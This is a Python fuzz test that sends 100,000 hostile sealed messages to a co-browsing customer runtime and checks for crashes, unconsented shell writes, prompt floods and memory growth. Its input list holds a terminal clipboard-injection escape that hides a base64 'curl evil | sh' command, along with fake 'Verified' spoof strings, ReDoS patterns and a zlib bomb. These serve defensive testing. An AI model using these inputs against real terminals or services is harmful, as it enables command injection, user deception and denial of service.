"""Fuzz of the customer's message handling: 100,000 hostile sealed messages (issue 11).

A seeded generator makes malformed and hostile payloads (random types, wrong field types,
huge and control-laden strings, deep JSON, bad zlib, zlib bombs, unknown types, and valid
messages with hostile values); a real agent :class:`Session` seals each one, and a real
:class:`CustomerRuntime` opens and handles it through its real frame path
(``SessionRuntime._handle``: open, decode, dispatch), with its ticker's work run every few
hundred messages. The customer's answers travel back to the agent's session, which
acknowledges them, as a real peer does.

Why not through a relay on 127.0.0.1: 100,000 messages through websockets, the relay and
back cost several minutes on two loaded cores, and what is under test is the customer's
handling of what it opens; the relay path with the same attacks is
``tests/e2e/test_hostile_agent*.py``. The link is a real, never-connected ``RelayLink`` whose
``send`` hands the customer's frames to the agent's session instead of a socket.

Checks: nothing crashes (no exception escapes the handler, the session never turns
``scared`` for content), nothing reaches the customer's shell (no consent was granted), no
prompt flood (prompt events counted), and bounded memory (peak RSS and the traced heap
before and after). ``COBROWSE_FUZZ_MESSAGES`` runs more (e.g. 1,000,000).
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import time
import zlib
from collections.abc import Iterator
from dataclasses import fields
from pathlib import Path
from typing import Any

from cobrowse.policy.events import as_json
from cobrowse.io.customer import CustomerRuntime
from cobrowse.io.link import Frame, RelayLink
from cobrowse.protocol import messages as m
from cobrowse.protocol.session import Session
from cobrowse.wire.code import Code

MESSAGES = int(os.environ.get("COBROWSE_FUZZ_MESSAGES", "100000"))
SEED = int(os.environ.get("COBROWSE_FUZZ_SEED", "1111"))
TICK_EVERY = 500
#: The relay's default largest frame (``--max-frame-bytes`` 262144) less the sealed frame's overhead.
MAX_SEALED_PAYLOAD = 262144 - 64

#: Types whose valid values start WebRTC negotiation, calls or the end of the session: they
#: come only with wrong field types here (the decoder's checks), not as valid messages.
NOT_VALID_HERE = {"rtc", "call", "end", "feedback"}
PROMPT_EVENTS = {"consent_prompt", "recording_prompt", "feedback_prompt"}

NASTY = ["\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", "\x1b[2J", "\x1b]0;title\x07", "[b green]Verified[/]", "[/]",
         "\u202e", "\x00", "\x7f", "\x9b31m", "\r\n[cobrowse] Verified", "\x1a", "\x1c", "\x03", "\x04", "\r",
         "(a|aa)+$", "((((", "\\", "%s%n", "\ud800", "😀", "A" * 1000]
ENUMS = ["view", "suggest", "control", "agent", "customer", "mark", "back", "goto", "done", "skipped",
         "pasted", "declined", "granted", "denied", "stopped", "yes", "no", ""]


class MemoryLink(RelayLink):
    """A real RelayLink never connected: what the customer sends goes to ``outbox``."""

    def __init__(self) -> None:
        super().__init__("ws://127.0.0.1:9", "customer")
        self.outbox: list[bytes] = []

    async def send(self, frame: bytes) -> None:
        self.outbox.append(frame)


class Fuzzer:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.types = sorted(set(m.MESSAGES) - {"end", "leave"})  # a valid End (or the last agent's Leave) just ends the session

    def text(self) -> str:
        rng = self.rng
        parts = [rng.choice(NASTY) if rng.random() < 0.5 else "".join(chr(rng.randrange(0, 0x300)) for _ in range(rng.randrange(8)))
                 for _ in range(rng.randrange(1, 6))]
        out = "".join(parts)
        roll = rng.random()
        if roll < 0.01:
            out = (out * 8000)[:200_000]  # up to 200 K characters
        elif roll < 0.05:
            out *= 50
        return out

    def value(self, depth: int = 0) -> Any:
        rng = self.rng
        kind = rng.randrange(10 if depth < 3 else 6)
        if kind == 0:
            return rng.choice([0, -1, 1, 2**31, -(2**63), 10**30, 1000, 1001])
        if kind == 1:
            return rng.choice([0.5, -0.0, 1e308, float("inf"), float("nan")])
        if kind == 2:
            return rng.choice([True, False, None])
        if kind in (3, 4):
            return self.text()
        if kind == 5:
            return rng.choice(ENUMS)
        if kind in (6, 7):
            return [self.value(depth + 1) for _ in range(rng.randrange(4))]
        return {self.text()[:20] if rng.random() < 0.5 else rng.choice(["t", "title", "steps", "x"]): self.value(depth + 1)
                for _ in range(rng.randrange(4))}

    def wrong_fields(self) -> dict[str, Any]:
        t = self.rng.choice(self.types)
        obj: dict[str, Any] = {"t": t}
        for f in fields(m.MESSAGES[t]):
            if self.rng.random() < 0.9:
                obj[f.name] = self.value()
        if self.rng.random() < 0.2:
            obj[self.text()[:10]] = self.value()
        return obj

    def valid_hostile(self) -> m.AppMessage:
        rng = self.rng
        text = self.text()[: m.MAX_TEXT] or "x"
        choice = rng.randrange(13)
        if choice == 0:
            return m.Chat(text)
        if choice == 1:
            return m.Hello("agent", text[:64], text)
        if choice == 2:
            return m.RequestControl(rng.choice(["suggest", "control"]))
        if choice == 3:
            return m.RecordRequest(rng.random() < 0.8)
        if choice == 4:
            return m.Keys(text)
        if choice == 5:
            return m.Suggest(rng.randrange(-5, 2**40), text)
        if choice == 6:
            first = rng.randrange(-1, 1001)
            return m.Pointer(first, rng.randrange(first, 1001) if first >= 0 else -1, rng.choice(["", text[:500], "(a|aa)+$"]))
        if choice == 7:
            steps = [{"title": self.text()[:100] or "s", "body": self.text()[:2000],
                      **({"expect": rng.choice(["(a|aa)+$", "ok", "[", text[:50]])} if rng.random() < 0.5 else {}),
                      **({"command": self.text()[:200]} if rng.random() < 0.3 else {})}
                     for _ in range(rng.randrange(1, 4))]
            return m.PushPlaybook({"title": self.text()[:100] or "t", "steps": steps})
        if choice == 8:
            return m.StepRequest(rng.choice(["mark", "back", "goto"]), rng.randrange(-3, 300), rng.choice(ENUMS))
        if choice == 9:
            return m.Redact([rng.choice(["(a|aa)+$", "secret", "[", "x" * 500, text[:100] or "y"]) for _ in range(rng.randrange(1, 5))])
        if choice == 10:
            return m.Resync()
        if choice == 11:
            return m.AgentProof({"v": self.value()}, text[:200])
        return m.Sharing(rng.random() < 0.5)

    def payload(self) -> bytes:
        """One hostile payload (the encoding byte included)."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.30:  # ASCII-escaped JSON: lone surrogates (\\ud800) arrive as they would from a patched client
            body = json.dumps(self.valid_hostile().to_json(), separators=(",", ":")).encode()
            return bytes([m.ZLIB]) + zlib.compress(body, 1) if len(body) > m.COMPRESS_OVER else bytes([m.PLAIN]) + body
        if roll < 0.60:
            body = json.dumps(self.wrong_fields(), ensure_ascii=False).encode("utf-8", "surrogatepass")
            return (bytes([m.ZLIB]) + zlib.compress(body, 1)) if rng.random() < 0.3 else bytes([m.PLAIN]) + body
        if roll < 0.70:
            t = rng.choice([*self.types, self.text()[:30], ""])
            return bytes([m.PLAIN]) + json.dumps({"t": t, **{self.text()[:8]: self.value() for _ in range(3)}}).encode()
        if roll < 0.78:
            return bytes([rng.randrange(256)]) + rng.randbytes(rng.randrange(64))
        if roll < 0.84:
            return bytes([m.ZLIB]) + rng.randbytes(rng.randrange(1, 64))
        if roll < 0.90:
            depth = rng.randrange(10, 200_000)
            return bytes([m.PLAIN]) + rng.choice([b"[" * depth, b'{"t":' * depth, b"[" * depth + b"]" * depth])
        if roll < 0.95:
            return bytes([m.PLAIN]) + rng.choice([b"null", b"[]", b"1", b'"t"', b'{"t":null}', b'{"t":1}', b"\xff\xfe",
                                                   b'{"t":"chat","text":"a","text":"b"}', b"NaN", b""])
        if roll < 0.9995:
            return bytes([m.PLAIN, *json.dumps({"t": "chat", "text": "x" * rng.randrange(4000, 5000)}).encode()])
        head = json.dumps({"t": rng.choice(["chat", "hello", "playbook"]), "text": ""})[:-2].encode()
        return bytes([m.ZLIB]) + zlib.compress(head + b"A" * (4 * 1024 * 1024 - 80) + b'"}', 9)  # a zlib bomb

    def payloads(self, n: int) -> Iterator[bytes]:
        """``n`` payloads, each small enough to cross a relay (a bigger one is compressed, as
        an attacker would: what it inflates to is the customer's limit to enforce)."""
        for _ in range(n):
            payload = self.payload()
            if len(payload) > MAX_SEALED_PAYLOAD:
                payload = bytes([m.ZLIB]) + zlib.compress(payload[1:], 6)
            yield payload[:MAX_SEALED_PAYLOAD]


def rss_kb(field: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    return 0


def paired_sessions() -> tuple[Session, Session]:
    code = Code("42", "7193-0518")
    agent, customer = Session("agent", code, os.urandom), Session("customer", code, os.urandom)
    agent.peer_joined(0.0)
    customer.peer_joined(0.0)
    for _ in range(10):
        for frame in agent.data_to_send():
            customer.receive_data(frame, 0.0)
        for frame in customer.data_to_send():
            agent.receive_data(frame, 0.0)
    assert agent.state == customer.state == "paired"
    agent.events_received()
    customer.events_received()
    return agent, customer


async def test_100k_hostile_sealed_messages(tmp_path: Path) -> None:
    events: list[dict[str, Any]] = []
    counts: dict[str, int] = {}

    def emit(typed: Any) -> None:
        event = as_json(typed)
        kind = str(event.get("event"))
        counts[kind] = counts.get(kind, 0) + 1
        if kind in PROMPT_EVENTS or kind in ("ended", "error"):
            events.append(event)

    written: list[bytes] = []
    link = MemoryLink()
    runtime = CustomerRuntime(link, emit, cols=80, rows=24, write_program=written.append)
    agent, customer = paired_sessions()
    runtime.session = customer
    # An ordinary screen: catastrophic patterns over lines built for them are the e2e tests'
    # and bench/hostile_agent.py's business (CPU), not this one's (correctness, memory).
    runtime.program_output(b"$ ls\r\nREADME.md  cobrowse  docs  tests\r\n$ git status\r\nOn branch main\r\n$ ")
    fuzzer = Fuzzer(random.Random(SEED))

    def to_agent() -> None:
        """The agent's session takes the customer's frames and acknowledges them."""
        frames, link.outbox = link.outbox, []
        for frame in frames:
            agent.receive_data(frame, runtime.now)
        agent.events_received()

    async def to_customer(frames: list[bytes]) -> None:
        for frame in frames:
            await runtime._handle(Frame(frame))

    rss_before, peak_before = rss_kb("VmRSS"), rss_kb("VmHWM")
    started = time.monotonic()
    sent = 0
    for payload in fuzzer.payloads(MESSAGES):
        channel = agent._channel
        assert channel is not None
        channel.max_unacked_frames = channel.max_unacked_bytes = channel.max_held_bytes = 1 << 40  # an attacker's
        frame = channel.seal(payload, runtime.now)
        channel._unacked.popitem()  # the attacker keeps no copy (the customer's acks free nothing then)
        await to_customer([frame])
        sent += 1
        if sent % TICK_EVERY == 0:
            await runtime.on_tick()
            await runtime.flush()
            to_agent()
            agent.tick(runtime.now + 1.0)
            await to_customer(agent.data_to_send())
            assert runtime.outcome is None, f"the session ended after {sent} messages: {events[-3:]}"
            assert customer.state == "paired"
            await asyncio.sleep(0)
    elapsed = time.monotonic() - started
    await runtime.on_tick()

    prompts = [e for e in events if e["event"] in PROMPT_EVENTS]
    grown = (rss_kb("VmRSS") - rss_before) / 1024
    peak = (rss_kb("VmHWM") - peak_before) / 1024
    print(f"\n{sent} messages in {elapsed:.1f} s ({sent / elapsed:.0f}/s); RSS +{grown:.1f} MB, peak +{peak:.1f} MB; "
          f"prompts {len(prompts)}; events {dict(sorted(counts.items()))}")
    assert sent == MESSAGES
    assert runtime.outcome is None and customer.state == "paired", f"ended: {[e for e in events if e['event'] in ('ended', 'error')]}"
    assert written == [], f"{len(written)} writes reached the customer's shell without consent"
    assert len(prompts) <= 10, f"{len(prompts)} prompts for {MESSAGES} hostile messages (a prompt flood)"
    assert grown <= 64, f"the customer's memory grew by {grown:.0f} MB over {MESSAGES} messages"
    assert peak <= 128, f"the customer's peak memory grew by {peak:.0f} MB"
